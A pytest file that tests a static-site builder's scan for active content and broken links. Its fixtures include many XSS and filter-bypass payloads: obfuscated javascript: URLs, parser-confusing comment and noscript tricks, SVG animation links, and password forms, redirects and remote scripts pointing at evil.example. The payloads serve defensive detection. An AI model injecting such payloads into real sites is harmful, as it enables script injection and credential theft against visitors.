"""The post-build scan reads every document as a browser does; anything active that is not the theme's fails the build."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from briefing_gen.build import Project, theme_of
from briefing_gen.config import theme_dirs
from briefing_gen.scan import ThemeScripts, active_content, broken_links, theme_scripts
from tests.conftest import SITE_URL, Run

PAGE = (
    '<!doctype html><html><head><title>t</title><script src="theme.js"></script></head>'
    '<body><article class="md-content__inner md-typeset">{}</article><script>theme()</script></body></html>'
)
THEME = ThemeScripts(files=frozenset({"theme.js"}), inline=re.compile(r"theme\(\)"))


@pytest.mark.parametrize(
    ("content", "finding"),
    [
        ("<p>hi</p><script>alert(1)</script>", "page.html: <script>"),
        ('<img src="x.png" onerror="alert(1)">', "page.html: <img onerror=…> event handler"),
        ('<a href="JaVaScRiPt:alert(1)">x</a>', 'page.html: <a href="JaVaScRiPt:alert(1)">'),
        ('<a href="&#106;avascript:alert(1)">x</a>', 'page.html: <a href="javascript:alert(1)">'),
        ('<a href="java\tscript:alert(1)">x</a>', 'page.html: <a href="java\\x09script:alert(1)">'),
        ('<img src="data:text/html;base64,PHNjcmlwdD4=">', 'page.html: <img src="data:text/html;base64,PHNjcmlwdD4=">'),
        ('<iframe src="https://example.org"></iframe>', "page.html: <iframe>"),
        # What Python's html.parser misread: a browser sees each of these as an element.
        ("<!--><img src=x onerror=alert(1)>-->", "page.html: <img onerror=…> event handler"),
        ("<svg><style><img src=x onerror=alert(1)></style></svg>", "page.html: <img onerror=…> event handler"),
        (
            "</p></p></div></div></article></body><img src=x onerror=alert(1)>",
            "page.html: <img onerror=…> event handler",
        ),
        (
            '<svg><a><animate attributeName="href" values="#"/><text>x</text></a></svg>',
            "page.html: <animate> that changes a link",
        ),
        ('<svg><set attributeName="xlink:href" to="https://x"/></svg>', "page.html: <set> that changes a link"),
        ('<math><mi href="javascript:alert(1)">m</mi></math>', 'page.html: <mi href="javascript:alert(1)">'),
        ("<template><img src=x onerror=alert(1)></template>", "page.html: <template>"),
        # Chromium reads a noscript's content as text: '</noscript>' inside the title ends it there.
        ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', "page.html: <noscript>"),
        (
            '<meta charset="iso-2022-jp">',
            "page.html: <meta> declaring an encoding other than UTF-8 (browsers would read the page otherwise)",
        ),
        ('<svg><s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script></svg>', "page.html: <script>"),
        ('<svg><a q:href="javascript:alert(1)">x</a></svg>', 'page.html: <a href="javascript:alert(1)">'),
        (
            '<p id="x\n::error file=a::forged"><iframe></iframe></p>',
            "page.html: <iframe> inside #x\\x0a::error file=a::forged",
        ),
        ('<meta http-equiv="Refresh" content="0;url=https://evil.example">', 'page.html: <meta http-equiv="refresh">'),
        ('<form action="https://evil.example"><input name="password"></form>', "page.html: <form>"),
        ('<base href="https://evil.example/">', "page.html: <base>"),
        ('<script src="https://evil.example/x.js"></script>', 'page.html: <script src="https://evil.example/x.js">'),
        ('<script type="module">import("https://evil.example/x.js")</script>', "page.html: <script>"),
        (
            '<div id="__config">{"search": "evil.js"}</div>',
            'page.html: <div id="__config"> (the theme reads its settings from it)',
        ),
        (
            '<section id="fact-max-fine"><img src=x onerror=alert(1)></section>',
            "page.html: <img onerror=…> event handler inside #fact-max-fine",
        ),
    ],
)
def test_active_content_anywhere_in_a_page_is_found(tmp_path: Path, content: str, finding: str) -> None:
    (tmp_path / "page.html").write_text(PAGE.format(content), encoding="utf-8")
    assert active_content(tmp_path, THEME) == [finding]


def test_the_head_is_read_too(tmp_path: Path) -> None:
    # What a title written raw into <title> would make: the script runs before any content.
    page = PAGE.replace("<title>t</title>", "<title>x </title><script>alert(1)</script> - Site</title>")
    (tmp_path / "page.html").write_text(page.format(""), encoding="utf-8")
    assert active_content(tmp_path, THEME) == ["page.html: <script>"]


@pytest.mark.parametrize(
    ("name", "content", "finding"),
    [
        ("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "logo.svg: <script>"),
        ("old.htm", "<p onmouseover=alert(1)>x</p>", "old.htm: <p onmouseover=…> event handler"),
        ("a/b.xhtml", '<a href="javascript:alert(1)">x</a>', 'a/b.xhtml: <a href="javascript:alert(1)">'),
        (
            "feed.xml",
            '<?xml-stylesheet type="text/xsl" href="x.xsl"?><feed/>',
            "feed.xml: <?xml-stylesheet?> (a style sheet that can rewrite the document)",
        ),
    ],
)
def test_every_file_a_browser_reads_as_markup_is_scanned(tmp_path: Path, name: str, content: str, finding: str) -> None:
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / name).write_text(content, encoding="utf-8")
    assert active_content(tmp_path, THEME) == [finding]


def test_the_themes_own_scripts_are_not_content(tmp_path: Path) -> None:
    (tmp_path / "page.html").write_text(PAGE.format('<p><a href="https://example.org">fine</a></p>'), encoding="utf-8")
    assert active_content(tmp_path, THEME) == []


@pytest.fixture(scope="module")
def material(tmp_path_factory: pytest.TempPathFactory) -> ThemeScripts:
    site = tmp_path_factory.mktemp("site")
    return theme_scripts(site, theme_dirs({"theme": {"name": "material"}}, site), [], "")


def test_an_inline_script_is_the_themes_only_as_its_templates_write_it(tmp_path: Path, material: ThemeScripts) -> None:
    script = '__md_scope=new URL("{}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{{try{{t.setItem(a.pathname+"."+e,JSON.stringify(_))}}catch(e){{}}}}'
    assert material.allows_inline(script.format("../.."))
    assert not material.allows_inline(script.format('",alert(1),"'))
    assert not material.allows_inline(script.format("javascript:alert(1)"))
    assert not material.allows_inline("alert(1)")


def test_a_script_file_is_the_themes_only_if_it_has_the_themes_bytes(tmp_path: Path) -> None:
    theme_dir = theme_dirs({"theme": {"name": "material"}}, tmp_path)[0]
    bundle = next((theme_dir / "assets" / "javascripts").glob("bundle.*.min.js")).relative_to(theme_dir).as_posix()
    (tmp_path / bundle).parent.mkdir(parents=True)
    shutil.copy(theme_dir / bundle, tmp_path / bundle)
    (tmp_path / "page.html").write_text(f'<script src="{bundle}"></script>', encoding="utf-8")
    assert active_content(tmp_path, theme_scripts(tmp_path, [theme_dir], [], "")) == []
    (tmp_path / bundle).write_text("alert(1)", encoding="utf-8")  # a page's asset planted under the theme's name
    assert active_content(tmp_path, theme_scripts(tmp_path, [theme_dir], [], "")) == [
        f"{bundle}: replaces the theme's own file of that name",
        f'page.html: <script src="{bundle}">',
    ]


def test_a_file_in_the_place_of_the_themes_own_is_found(tmp_path: Path) -> None:
    theme_dir = theme_dirs({"theme": {"name": "material"}}, tmp_path)[0]
    worker = next((theme_dir / "assets" / "javascripts" / "workers").glob("search.*.min.js"))
    planted = tmp_path / worker.relative_to(theme_dir)
    planted.parent.mkdir(parents=True)
    planted.write_text("postMessage({type: 1})", encoding="utf-8")  # loaded by new Worker(), not by <script src>
    rel = worker.relative_to(theme_dir).as_posix()
    assert active_content(tmp_path, theme_scripts(tmp_path, [theme_dir], [], "")) == [
        f"{rel}: replaces the theme's own file of that name"
    ]


def test_the_real_site_has_no_active_content(built: Path) -> None:
    assert active_content(built / "site", theme_of(Project(built), built / "site", SITE_URL)) == []


def test_a_script_in_a_hand_written_page_fails_the_build_and_keeps_the_site(project: Path, run: Run) -> None:
    assert run(project, "build")[0] == 0
    before = (project / "site" / "methodology" / "index.html").read_bytes()
    methodology = project / "content" / "pages" / "methodology.md"
    methodology.write_text(
        methodology.read_text(encoding="utf-8") + '\n<script>alert("x")</script>\n', encoding="utf-8"
    )
    code, _, err = run(project, "build")
    assert code == 1
    assert (
        "error: active content in the built pages (scripts, event handlers, frames, script URLs):\nmethodology/index.html: <script>\n"
        in err
    )
    assert (project / "site" / "methodology" / "index.html").read_bytes() == before


def test_broken_relative_links_and_anchors_are_found(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "index.html").write_text('<h2 id="here">x</h2>', encoding="utf-8")
    (tmp_path / "page.html").write_text(
        '<a href="a/#here">ok</a>\n<a href="a/#gone">anchor</a>\n<a href="b/">page</a>\n<a href="/a/">root</a>\n'
        '<a href="https://example.org/x">outside</a>\n<a href="../../etc/passwd">escape</a>',
        encoding="utf-8",
    )
    assert broken_links(tmp_path) == [
        "page.html: link to a/#gone leads nowhere",
        "page.html: link to b/ leads nowhere",
        "page.html: link to ../../etc/passwd leads nowhere",
    ]


def test_a_site_under_a_folder_resolves_its_absolute_links(tmp_path: Path) -> None:
    # GitHub Pages' usual project address, https://org.github.io/briefings/: the 404 page links from /briefings/.
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "index.html").write_text("<p>x</p>", encoding="utf-8")
    (tmp_path / "404.html").write_text('<a href="/briefings/a/">a</a><a href="/briefings/b/">b</a>', encoding="utf-8")
    theme = ThemeScripts(base_path="/briefings/")
    assert broken_links(tmp_path, theme) == ["404.html: link to /briefings/b/ leads nowhere"]


def test_the_real_site_has_no_broken_links(built: Path) -> None:
    assert broken_links(built / "site", theme_of(Project(built), built / "site", SITE_URL)) == []


def test_each_payload_planted_in_the_real_built_site_is_found(built: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(built / "site", site)
    briefing = site / "briefings" / "legal-penalties" / "index.html"
    html = briefing.read_text(encoding="utf-8")
    title_start = html.index("<title>")
    html = html[:title_start] + "<title>x </title><script>alert(1)</script>" + html[title_start + len("<title>") :]
    briefing.write_text(html, encoding="utf-8")  # in a title, as a theme writing it raw would
    methodology = site / "methodology" / "index.html"
    page = methodology.read_text(encoding="utf-8").replace(
        "</article>", "<!--><img src=x onerror=alert(2)>--></article>"
    )
    methodology.write_text(page, encoding="utf-8")  # in a page
    sources = site / "sources" / "index.html"  # in a file name, as an unescaped edit link would carry it
    link = '<a href="https://github.com/o/r/blob/main/content/facts/x.yaml" onmouseover="alert(3)">edit</a>'
    sources.write_text(sources.read_text(encoding="utf-8").replace("</article>", link + "</article>"), encoding="utf-8")
    (site / "assets" / "logo.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(4)</script></svg>', encoding="utf-8"
    )  # in an SVG
    found = active_content(site, theme_of(Project(built), site, SITE_URL))
    assert found == [
        "assets/logo.svg: <script>",
        "briefings/legal-penalties/index.html: <script>",
        "methodology/index.html: <img onerror=…> event handler",
        "sources/index.html: <a onmouseover=…> event handler",
    ]


@pytest.mark.parametrize(
    ("block", "finding"),
    [
        ('<script type="application/ld+json">{"@type": "Report"}</script>', None),
        ('<script type="application/ld+json">{"name": "\\u003c/script\\u003e"}</script>', None),
        (
            '<script type="application/ld+json">{"name": "<!--"}</script>',
            "page.html: <script type=\"application/ld+json\"> holding '<!--' or '<script' (a browser could read "
            "the markup after it as script)",
        ),
        (
            '<script type="application/ld+json">{"a": "<script>"}</script>',
            "page.html: <script type=\"application/ld+json\"> holding '<!--' or '<script' (a browser could read "
            "the markup after it as script)",
        ),
        (
            '<script type="application/ld+json">{"a": "</script><img src=x onerror=alert(1)>"}</script>',
            'page.html: <script type="application/ld+json"> that is not valid JSON',
        ),
        (
            '<script type="application/json">alert(1)</script>',
            'page.html: <script type="application/json"> that is not valid JSON',
        ),
        ('<script type="application/ld+json; x=1">{}</script>', "page.html: <script>"),
    ],
)
def test_a_data_block_passes_only_as_plain_json(tmp_path: Path, block: str, finding: str | None) -> None:
    (tmp_path / "page.html").write_text(PAGE.format(block), encoding="utf-8")
    found = active_content(tmp_path, THEME)
    expected = [finding] if finding else []
    assert found[: len(expected)] == expected and len(found) <= len(expected) + 1


def test_the_real_briefing_pages_carry_their_data_blocks(built: Path) -> None:
    page = (built / "site" / "briefings" / "legal-penalties" / "index.html").read_text(encoding="utf-8")
    assert page.count('<script type="application/ld+json">') == 1
    assert active_content(built / "site", theme_of(Project(built), built / "site", SITE_URL)) == []
